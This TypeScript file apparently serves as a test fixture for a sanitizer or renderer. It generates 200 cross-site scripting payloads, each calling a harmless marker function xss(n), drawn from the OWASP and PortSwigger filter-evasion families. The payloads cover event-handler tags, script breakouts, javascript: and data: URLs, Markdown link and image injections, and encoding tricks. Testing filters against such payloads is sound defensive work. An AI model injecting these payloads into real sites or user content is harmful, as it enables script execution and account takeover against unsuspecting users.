/**
 * 200 tries to get a text run as code: the families of OWASP's XSS Filter Evasion Cheat Sheet (CC BY-SA 4.0) and of PortSwigger's
 * cheat sheet, each written anew with our own call, `xss(n)`, so that the one that ran is known.
 */
export const PAYLOADS: readonly string[] = makePayloads().map((write, n) => write(`xss(${n})`));

type Write = (call: string) => string;

function makePayloads(): Write[] {
  const coded = (call: string) => [...call].map((one) => `&#${one.charCodeAt(0)};`).join('');
  const hex = (call: string) => [...call].map((one) => `&#x${one.charCodeAt(0).toString(16)}`).join('');
  const points = (call: string) => [...call].map((one) => one.charCodeAt(0)).join();
  const unicode = (call: string) => call.replace('x', '\\u0078');

  // A tag with a handler that needs nobody to do anything.
  const handled: [string, string][] = [
    ['img src=x', 'onerror'],
    ['image src=x', 'onerror'],
    ['svg', 'onload'],
    ['body', 'onload'],
    ['body', 'onpageshow'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['keygen autofocus', 'onfocus'],
    ['button autofocus', 'onfocus'],
    ['a href=# autofocus tabindex=1', 'onfocusin'],
    ['video src=x', 'onerror'],
    ['video autoplay', 'onloadstart'],
    ['audio src=x', 'onerror'],
    ['video><source', 'onerror'],
    ['details open', 'ontoggle'],
    ['marquee', 'onstart'],
    ['iframe', 'onload'],
    ['object data=x', 'onerror'],
    ['embed src=x', 'onload'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['script src=x', 'onerror'],
    ['style', 'onload'],
    ['frameset', 'onload'],
    ['svg><animate attributeName=x dur=1s', 'onbegin'],
    ['svg><set attributeName=x dur=1s', 'onbegin'],
    ['svg><animatetransform', 'onbegin'],
    ['xss style="animation:x 1s"', 'onanimationstart'],
    ['div contenteditable autofocus', 'onfocus'],
    ['dialog open', 'onclose'],
    ['meter', 'onanimationend'],
    ['picture><source srcset=x><img src=x', 'onerror'],
    ['table background=x', 'onload'],
    ['form><input type=image src=x', 'onerror'],
  ];
  const tags = handled.flatMap(([tag, handler]): Write[] => [
    (call) => `<${tag} ${handler}=${call}>`,
    (call) => `"><${tag} ${handler}="${call}">`,
    (call) => `'><${tag.toUpperCase()} ${handler.toUpperCase()}='${coded(call)}'>`,
  ]);

  const scripts: Write[] = [
    (call) => `<script>${call}</script>`,
    (call) => `"><script>${call}</script>`,
    (call) => `'><script>${call}</script>`,
    (call) => `</script><script>${call}</script>`,
    (call) => `</title><script>${call}</script>`,
    (call) => `</textarea><script>${call}</script>`,
    (call) => `</style><script>${call}</script>`,
    (call) => `</noscript><script>${call}</script>`,
    (call) => `--><script>${call}</script>`,
    (call) => `]]><script>${call}</script>`,
    (call) => `<!--<img src="--><script>${call}</script>">`,
    (call) => `<ScRiPt>${call}</sCrIpT>`,
    (call) => `<script\n>${call}</script\n>`,
    (call) => `<script/x>${call}</script/x>`,
    (call) => `<<script>${call}//<</script>`,
    (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
    (call) => `<script>eval(String.fromCharCode(${points(call)}))</script>`,
    (call) => `<script>${unicode(call)}</script>`,
    (call) => `<script src="data:text/javascript,${call}"></script>`,
    (call) => `<script type=module>${call}</script>`,
    (call) => `<svg><script>${call}</script></svg>`,
    (call) => `<svg><script>${coded(call)}</script></svg>`,
    (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
    (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    (call) => `<template><script>${call}</script></template>`,
    (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    (call) => `<iframe srcdoc='&lt;script&gt;parent.${call}&lt;/script&gt;'>`,
    (call) => `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
    (call) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>">`,
    (call) =>
      `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${call} /></svg>#x"/>`,
  ];

  const addresses: Write[] = [
    (call) => `javascript:${call}`,
    (call) => `JaVaScRiPt:${call}`,
    (call) => `java\tscript:${call}`,
    (call) => `java&#x0A;script:${call}`,
    (call) => ` &#14; javascript:${call}`,
    (call) => `\u0001javascript:${call}`,
    (call) => `javascript://x%0A${call}`,
    (call) => `javascript:/*--></title></style></textarea></script>*/${call}`,
    (call) => `data:text/html,<script>opener.${call}</script>`,
    (call) => `data:text/html;base64,${btoa(`<script>parent.${call}</script>`)}`,
    (call) => `vbscript:${call}`,
    (call) => `<a href="javascript:${call}">a</a>`,
    (call) => `<a href=${hex(`javascript:${call}`)}>a</a>`,
    (call) => `<iframe src="javascript:parent.${call}">`,
    (call) => `<form action="javascript:${call}"><input type=submit>`,
    (call) => `<isindex action="javascript:${call}" type=image>`,
    (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
    (call) => `<base href="javascript:/${call}//">`,
    (call) => `<img src="javascript:${call}">`,
    (call) => `<link rel="stylesheet" href="javascript:${call}">`,
    (call) => `<div style="background-image:url(javascript:${call})">`,
    (call) => `<div style="width:expression(${call})">`,
    (call) => `<style>@import 'javascript:${call}';</style>`,
    (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>a</text></a></svg>`,
  ];

  const markdown: Write[] = [
    (call) => `[a](javascript:${call})`,
    (call) => `[a](JAVASCRIPT:${call})`,
    (call) => `[a](java&Tab;script:${call})`,
    (call) => `[a](javascript&colon;${call})`,
    (call) => `[a](<javascript:${call}>)`,
    (call) => `[a]( javascript:${call})`,
    (call) => `<javascript:${call}>`,
    (call) => `[a]: javascript:${call}\n\n[a]`,
    (call) => `![a](x"onerror="${call})`,
    (call) => `![a](x 'a"onerror="${call}')`,
    (call) => `![${'"onerror="'}${call}](x)`,
    (call) => `[a](https://example.org"onmouseover="${call})`,
    (call) => `[<img src=x onerror=${call}>](x)`,
    (call) => `\`\`\`"><img src=x onerror=${call}>\na\n\`\`\``,
    (call) => `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``,
    (call) => `<!-- [a](x) --><img src=x onerror=${call}>`,
    (call) => `| a |\n| --- |\n| <img src=x onerror=${call}> |`,
    (call) => `[a](data:text/html,<script>${call}</script>)`,
    (call) => `[a](vbscript:${call})`,
    (call) => `&lt;img src=x onerror=${call}&gt;`,
  ];

  const within: Write[] = [
    (call) => `" autofocus onfocus="${call}`,
    (call) => `' autofocus onfocus='${call}`,
    (call) => `" onmouseover="${call}" style="position:fixed;inset:0" x="`,
    (call) => `\`;${call};\``,
    (call) => `';${call};//`,
    (call) => `";${call};//`,
    (call) => `\\";${call};//`,
    (call) => `</script>';${call};//`,
    (call) => `\${${call}}`,
    (call) => `{{constructor.constructor('${call}')()}}`,
    (call) => `<%= ${call} %>`,
    (call) => `\u2028${call}\u2029`,
    (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    (call) => `\u00bcscript\u00be${call}\u00bc/script\u00be`,
    (call) => `\uff1cimg src=x onerror=${call}\uff1e`,
    (call) => `%3Cimg src=x onerror=${call}%3E`,
    (call) => `&#60;img src=x onerror=${call}&#62;`,
    (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
    (call) => `\\x3cimg src=x onerror=${call}\\x3e`,
    (call) => `<img src=x:${'x'.repeat(30)} onerror\n=\n${call}>`,
    (call) => `<img/src=x/onerror=${call}>`,
    (call) => `<img src=x onerror=${call}//`,
    (call) => `<img """><img src=x onerror="${call}">`,
    (call) => `<a onclick=${call}>a</a>`,
  ];
  return [...tags, ...scripts, ...addresses, ...markdown, ...within];
}
